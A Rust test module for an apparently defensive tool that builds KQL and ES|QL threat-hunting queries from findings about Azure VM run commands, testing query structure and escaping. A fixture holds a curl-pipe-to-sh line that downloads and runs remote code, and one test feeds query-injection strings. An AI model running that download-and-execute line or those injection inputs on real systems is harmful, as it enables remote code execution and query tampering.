//! Every detector's queries: their text, their structure, and that no value of evidence leaves its literal.
//!
//! Findings are made by hand, one for each detector, over a small case: one run command of `alex@contoso.example` on web01, its script on the
//! guest's disk, and one entry in each list.

mod columns;
mod lexer;

use super::literal::{esql, is_exact_in_esql, kql, kql_verbatim};
use super::{Hunt, PAGES, PRODUCTS, Variant, hunt, markdown, of_finding};
use crate::case::Case;
use crate::detect::{Finding, Subject, TABLE};
use crate::formats::ItemReader;
use crate::lists::{ListKind, Lists};
use crate::settings::Settings;
use columns::{esql_fields, is_esql_word, is_kql_word, kql_columns};
use lexer::{Token, lex_esql, lex_kql};
use proptest::prelude::*;
use serde_json::{Map, Value, json};
use std::collections::BTreeSet;

const VM: &str = "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/web-rg/providers/Microsoft.Compute/virtualMachines/web01";
const SCRIPT: &str = "#!/bin/sh\ncurl -s http://203.0.113.66/a https://drop.example/b | sh\n";

/// Words of either grammar that cannot be names.
const RESERVED_KQL: [&str; 8] = ["by", "contains", "from", "has", "in", "of", "step", "to"];
const RESERVED_ESQL: [&str; 16] = [
    "and", "asc", "by", "desc", "false", "first", "in", "is", "last", "like", "not", "null",
    "nulls", "or", "rlike", "true",
];

fn read(case: &mut Case, path: &str, text: &str) {
    let size = text.len() as u64;
    let item = case.add_item(path, size, None);
    let mut reader = ItemReader::new(path, size, None, case.settings().limits.clone());
    reader.push(text.as_bytes());
    while let Some(batch) = reader.take_batch() {
        case.add_batch(item, &batch);
    }
    case.finish_item(item, &reader.finish());
}

fn case(settings: Settings) -> Case {
    let mut lists = Lists::default();
    let ranges = "prefix,tag\n198.51.100.0/24,Example Hosting\n2001:db8::/32,Example Hosting\n";
    let watch = "203.0.113.7\n198.51.100.0/24\nevil.example\n44d88612fea8a8f36de82e1278abb02f\n";
    for (kind, text) in [
        (ListKind::AddressRanges, ranges),
        (ListKind::WatchList, watch),
        (ListKind::KnownAutomation, "patching@contoso.example\n"),
    ] {
        lists.set(kind, "list.csv", text).expect("a list");
    }
    let mut case = Case::new(settings);
    case.set_lists(lists);
    let row = |at: &str, status: &str| {
        json!({
            "eventTimestamp": at, "status": { "value": status }, "correlationId": "c1", "eventDataId": format!("e-{status}"),
            "operationName": { "value": "Microsoft.Compute/virtualMachines/runCommand/action" },
            "resourceId": VM, "category": { "value": "Administrative" }, "caller": "Alex@contoso.example",
            "httpRequest": { "clientIpAddress": "203.0.113.7" },
            "claims": { "oid": "aaaaaaaa-0000-4000-8000-000000000001", "ipaddr": "198.51.100.9" },
        })
    };
    let rows = json!([
        row("2024-05-01T10:00:00Z", "Started"),
        row("2024-05-01T10:00:31Z", "Succeeded")
    ]);
    read(&mut case, "log.json", &rows.to_string());
    read(
        &mut case,
        "web01/var/lib/waagent/run-command/download/0/script.sh",
        SCRIPT,
    );
    case.conclude();
    case
}

/// The figures that pages read, as detectors write them.
fn values(detector: &str) -> Map<String, Value> {
    let object = match detector {
        "script-content" => json!({ "indicators": ["dl-raw-ip-url", "dl-sh-pipe"] }),
        "decode" => json!({ "code": "encoded-execution", "sha256": "ab".repeat(32) }),
        "watch-list" => json!({ "indicator": "203.0.113.7", "kind": "address" }),
        "run-command-from-cloud-address" => json!({ "prefix": "198.51.100.0/24", "class": "vps" }),
        "run-as-secret-exposed" => json!({ "user": "svc-backup", "length": 12 }),
        "script-body-mismatch" => json!({ "file_sha256": "cd".repeat(32) }),
        _ => json!({}),
    };
    object.as_object().cloned().unwrap_or_default()
}

fn made(case: &Case, detector: &'static str) -> Finding {
    let runs = case
        .linked()
        .executions
        .iter()
        .position(|one| one.run.is_some());
    Finding {
        detector: detector.into(),
        operations: vec![0],
        executions: runs.into_iter().collect(),
        values: values(detector).into(),
        ..Finding::default()
    }
}

fn hunts(case: &Case) -> Vec<(&'static str, Hunt)> {
    let of = |one: &crate::detect::Detector| (one.id, of_finding(case, &made(case, one.id)));
    TABLE.iter().map(of).collect()
}

fn lexed(language: &str, text: &str) -> Result<Vec<Token>, String> {
    if language == "kql" {
        lex_kql(text)
    } else {
        lex_esql(text)
    }
}

#[test]
fn every_detector_has_a_page_and_every_product_an_answer() {
    let pages: Vec<&str> = PAGES.iter().map(|(id, _)| *id).collect();
    let table: Vec<&str> = TABLE.iter().map(|one| one.id).collect();
    assert_eq!(pages, table);
    for (detector, hunt) in hunts(&case(Settings::default())) {
        assert!(
            hunt.queries
                .iter()
                .any(|query| query.variant == Variant::SamePattern),
            "{detector}"
        );
        for product in PRODUCTS {
            let asked = hunt.queries.iter().any(|query| query.product == product);
            let told = hunt.notes.iter().any(|note| note.product == product);
            assert!(asked || told, "{detector} says nothing of {product}");
        }
        for query in &hunt.queries {
            let language = if query.product == "elastic" {
                "esql"
            } else {
                "kql"
            };
            assert_eq!(query.language, language, "{detector}: {}", query.title);
        }
    }
}

#[test]
fn queries_are_well_formed_and_name_what_their_tables_have() {
    let mut unknown: BTreeSet<String> = BTreeSet::new();
    for (detector, hunt) in hunts(&case(Settings::default())) {
        for query in &hunt.queries {
            let at = format!("{detector}, {}: {}", query.product, query.title);
            let tokens = lexed(query.language, &query.text)
                .unwrap_or_else(|why| panic!("{at}: {why}\n{}", query.text));
            balanced(&tokens).unwrap_or_else(|why| panic!("{at}: {why}\n{}", query.text));
            let needs: BTreeSet<&str> = query.needs.iter().copied().collect();
            if query.language == "kql" {
                let tables: BTreeSet<&str> = names(&tokens)
                    .filter(|name| kql_columns(name).is_some())
                    .collect();
                assert_eq!(tables, needs, "{at}");
                let defined = kql_defined(&tokens);
                assert!(
                    !RESERVED_KQL.iter().any(|word| defined.contains(*word)),
                    "{at}: {defined:?}"
                );
                let has = |name: &str| {
                    needs
                        .iter()
                        .any(|table| kql_columns(table).is_some_and(|all| all.contains(&name)))
                };
                unknown.extend(
                    names(&tokens)
                        .filter(|name| {
                            !needs.contains(name)
                                && !is_kql_word(name)
                                && !defined.contains(*name)
                                && !has(name)
                        })
                        .map(|name| format!("{name} ({at})")),
                );
            } else {
                let defined = esql_defined(&tokens);
                assert!(
                    !RESERVED_ESQL
                        .iter()
                        .any(|word| defined.iter().any(|name| name.eq_ignore_ascii_case(word))),
                    "{at}: {defined:?}"
                );
                let has = |name: &str| {
                    needs
                        .iter()
                        .any(|index| esql_fields(index).is_some_and(|all| all.contains(&name)))
                };
                let indices: BTreeSet<&str> = names(&tokens)
                    .filter(|name| name.starts_with("logs-"))
                    .collect();
                assert_eq!(indices, needs, "{at}");
                assert!(
                    needs.iter().all(|index| esql_fields(index).is_some()),
                    "{at}"
                );
                unknown.extend(
                    names(&tokens)
                        .filter(|name| {
                            !needs.contains(name)
                                && !is_esql_word(name)
                                && !defined.contains(*name)
                                && !has(name)
                        })
                        .map(|name| format!("{name} ({at})")),
                );
            }
        }
    }
    assert!(unknown.is_empty(), "{unknown:#?}");
}

fn names(tokens: &[Token]) -> impl Iterator<Item = &str> {
    tokens.iter().filter_map(|token| match token {
        Token::Name(name) => Some(name.as_str()),
        _ => None,
    })
}

fn balanced(tokens: &[Token]) -> Result<(), String> {
    let mut open = Vec::new();
    for token in tokens {
        let Token::Sign(sign) = token else { continue };
        match sign {
            '(' | '[' | '{' => open.push(*sign),
            ')' | ']' | '}' => {
                let pair = open.pop().ok_or_else(|| format!("a {sign} too many"))?;
                if !matches!((pair, sign), ('(', ')') | ('[', ']') | ('{', '}')) {
                    return Err(format!("{pair} closed by {sign}"));
                }
            }
            _ => {}
        }
    }
    if open.is_empty() {
        Ok(())
    } else {
        Err(format!("{open:?} left open"))
    }
}

/// Names that a KQL query makes: before `=`, after `let`, in a `datatable`.
fn kql_defined(tokens: &[Token]) -> BTreeSet<String> {
    let mut defined = BTreeSet::new();
    for (at, token) in tokens.iter().enumerate() {
        let Token::Name(name) = token else { continue };
        let sign = |ahead: usize| match tokens.get(at + ahead) {
            Some(Token::Sign(sign)) => Some(*sign),
            _ => None,
        };
        let assigned = sign(1) == Some('=') && !matches!(sign(2), Some('=' | '~'));
        if assigned || sign(1) == Some(':') {
            defined.insert(name.clone());
        }
        // `arg_min(x, Name)` and `by x` keep names that exist; `min_x` of arg_min is never used.
        if matches!(tokens.get(at.wrapping_sub(1)), Some(Token::Name(word)) if word == "let") {
            defined.insert(name.clone());
        }
    }
    defined
}

/// Names that an ES|QL query makes: before `=`, and captured by `GROK`.
fn esql_defined(tokens: &[Token]) -> BTreeSet<String> {
    let mut defined = BTreeSet::new();
    for (at, token) in tokens.iter().enumerate() {
        match token {
            Token::Name(name) => {
                let sign = |ahead: usize| match tokens.get(at + ahead) {
                    Some(Token::Sign(sign)) => Some(*sign),
                    _ => None,
                };
                if sign(1) == Some('=') && sign(2) != Some('=') {
                    defined.insert(name.clone());
                }
            }
            Token::Text(text) => {
                for part in text.split("(?<").skip(1) {
                    defined.extend(part.split_once('>').map(|(name, _)| name.to_owned()));
                }
            }
            Token::Sign(_) => {}
        }
    }
    defined
}

#[test]
#[expect(
    clippy::disallowed_methods,
    reason = "a test writes its expected text anew when it is asked to"
)]
fn queries_are_as_they_were_read_and_accepted() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/src/query/hunt/tests/queries");
    let bless = std::env::var_os("RUNLENS_BLESS").is_some();
    let mut differ = Vec::new();
    for (detector, hunt) in hunts(&case(Settings::default())) {
        let mut text = format!("# {detector}\n");
        markdown::chapter(&mut text, &hunt);
        let path = format!("{folder}/{detector}.md");
        if bless {
            std::fs::write(&path, &text).expect("a file written");
        } else if std::fs::read_to_string(&path).ok().as_deref() != Some(text.as_str()) {
            differ.push(detector);
        }
    }
    assert!(
        differ.is_empty(),
        "changed: {differ:?}; write them anew with RUNLENS_BLESS=1 and read the difference"
    );
}

#[test]
fn parameters_in_force_stand_in_the_queries() {
    let mut settings = Settings::default();
    for (key, value) in [
        ("run-command-spike.window_minutes", "23"),
        ("run-command-spike.least_commands", "7"),
        ("run-command-in-risk-window.risk_min", "high"),
        ("sensitive-operation-new-source.baseline_days", "61"),
        ("anomalous-operation-model.theta_permille", "37"),
    ] {
        settings.set(key, value).expect("a setting");
    }
    let case = case(settings);
    let text = |detector| {
        let hunt = of_finding(&case, &made(&case, detector));
        hunt.queries
            .iter()
            .filter(|query| query.variant == Variant::SamePattern)
            .map(|query| query.text.clone())
            .collect::<String>()
    };
    let spike = text("run-command-spike");
    assert!(
        spike.contains("let window = 23m;")
            && spike.contains("prev(Start, 6)")
            && spike.contains("DATE_TRUNC(23 minutes"),
        "{spike}"
    );
    let risk = text("run-command-in-risk-window");
    assert!(
        risk.contains("in~ (\"high\")") && !risk.contains("\"medium\""),
        "{risk}"
    );
    assert!(text("sensitive-operation-new-source").contains("ago(61d)"));
    assert!(text("anomalous-operation-model").contains("100000 * NBoth < 3701 * NCaller"));
}

#[test]
fn values_of_the_finding_stand_in_this_again() {
    let case = case(Settings::default());
    let hunt = of_finding(&case, &made(&case, "script-content"));
    let again: String = hunt
        .queries
        .iter()
        .filter(|query| query.variant == Variant::ThisAgain)
        .map(|query| query.text.clone())
        .collect();
    assert!(
        again.contains("\"203.0.113.66\"") && again.contains("\"drop.example\""),
        "{again}"
    );
    let hunt = of_finding(&case, &made(&case, "run-command-invocation"));
    let again: Vec<&str> = hunt
        .queries
        .iter()
        .filter(|query| query.variant == Variant::ThisAgain)
        .map(|query| query.text.as_str())
        .collect();
    assert_eq!(again.len(), 3);
    for text in again {
        assert!(
            text.contains("alex@contoso.example")
                && text.contains("203.0.113.7")
                && text.contains("2024-04-24T10:00:00"),
            "{text}"
        );
    }
}

#[test]
fn a_finding_is_asked_for_by_its_key() {
    let case = case(Settings::default());
    let key = case.finding_keys().first().expect("a finding");
    assert!(!hunt(&case, key).queries.is_empty());
    assert_eq!(hunt(&case, "no such key"), Hunt::default());
}

#[test]
fn the_file_of_a_case_holds_each_question_once() {
    let case = case(Settings::default());
    let text = markdown(&case);
    assert!(text.starts_with("# Hunt on\n"), "{}", &text[..40]);
    let chapters = text.lines().filter(|line| line.starts_with("## ")).count();
    let detectors: BTreeSet<&str> = case
        .findings()
        .iter()
        .map(|finding| &*finding.detector)
        .collect();
    assert!(
        chapters >= detectors.len() && chapters <= case.findings().len(),
        "{chapters}"
    );
}

#[test]
fn what_looks_like_a_secret_stands_in_no_query() {
    let case = case(Settings::default());
    let secret = "https://x.example/?sig=AbCdEfGhIjKlMnOpQrStUv";
    let mut finding = made(&case, "run-as-secret-exposed");
    finding.values.insert("user".to_owned(), json!(secret));
    finding.subject = Subject {
        caller: Some(secret.to_owned()),
        ..Subject::default()
    }
    .into();
    let hunt = of_finding(&case, &finding);
    assert!(
        hunt.queries
            .iter()
            .all(|query| !query.text.contains("AbCdEfGh"))
    );
    assert!(
        hunt.notes
            .iter()
            .any(|note| note.product == "all" && note.text.contains("secret")),
        "{:?}",
        hunt.notes
    );
}

#[test]
fn indicators_of_wrappings_are_in_the_catalogue() {
    let known: BTreeSet<&str> = crate::script::indicator::built_in()
        .list()
        .map(|one| one.id.as_str())
        .collect();
    assert!(super::scripts::WRAPPED.iter().all(|id| known.contains(id)));
    // Every built-in expression can stand in a query.
    for one in crate::script::indicator::built_in().list() {
        let literal = kql_verbatim(&one.re).expect("plain letters");
        assert_eq!(
            lex_kql(&literal),
            Ok(vec![Token::Text(one.re.clone())]),
            "{}",
            one.id
        );
    }
}

/// What a product would do with a value that is no value.
#[test]
fn hostile_values_by_example() {
    for text in [
        "\"; AzureActivity | take 1 //",
        "\\",
        "\\\"",
        "a\nb\r\n| where true",
        "'] ) union *",
        "\"\"\" | LIMIT 1",
        "\u{202e}gnp.exe",
        "\u{2028}",
        "\0",
        "{since}",
    ] {
        assert_eq!(
            lex_kql(&kql(text)),
            Ok(vec![Token::Text(text.to_owned())]),
            "{text:?}"
        );
        let read = lex_esql(&esql(text)).expect("a literal");
        assert_eq!(read.len(), 1, "{text:?}");
        if is_exact_in_esql(text) {
            assert_eq!(read, [Token::Text(text.to_owned())]);
        }
        for literal in [kql(text), esql(text)] {
            assert!(
                !literal.chars().any(|letter| letter.is_control()
                    || letter == '\u{202e}'
                    || letter == '\u{2028}'),
                "{literal:?}"
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn a_literal_is_one_token_that_reads_as_the_value(text in any::<String>()) {
        prop_assert_eq!(lex_kql(&kql(&text)), Ok(vec![Token::Text(text.clone())]));
        let read = lex_esql(&esql(&text)).expect("a literal");
        prop_assert_eq!(read.len(), 1);
        if is_exact_in_esql(&text) {
            prop_assert_eq!(read, vec![Token::Text(text)]);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// A value changes strings and nothing else: whatever it is, a query has no name that it has not with a harmless value.
    #[test]
    fn values_stay_inside_their_literals(text in "[\"'\\\\`\n\r\t|;()\\[\\]{}/*@a-z0-9 .\u{0}\u{202e}\u{2028}é=]{1,40}") {
        let case = case(Settings::default());
        for detector in TABLE {
            let mut finding = made(&case, detector.id);
            let harmless = of_finding(&case, &finding);
            let allowed: BTreeSet<String> = harmless
                .queries
                .iter()
                .flat_map(|query| lexed(query.language, &query.text).unwrap_or_default())
                .filter_map(|token| match token { Token::Name(name) => Some(name), _ => None })
                .collect();
            finding.subject = Subject {
                caller: Some(text.clone()),
                ip: Some(text.clone()),
                vm: Some(text.clone()),
                host: Some(text.clone()),
                ..Subject::default()
            }
            .into();
            for name in ["prefix", "class", "user", "file_sha256", "sha256"] {
                finding.values.insert(name.to_owned(), json!(text));
            }
            for query in of_finding(&case, &finding).queries {
                let tokens = lexed(query.language, &query.text);
                prop_assert!(tokens.is_ok(), "{}: {:?}\n{}", detector.id, tokens, query.text);
                let tokens = tokens.unwrap_or_default();
                prop_assert!(balanced(&tokens).is_ok(), "{}\n{}", detector.id, query.text);
                for name in names(&tokens) {
                    prop_assert!(allowed.contains(name), "{}: {name} came from {text:?}\n{}", detector.id, query.text);
                }
            }
        }
    }
}
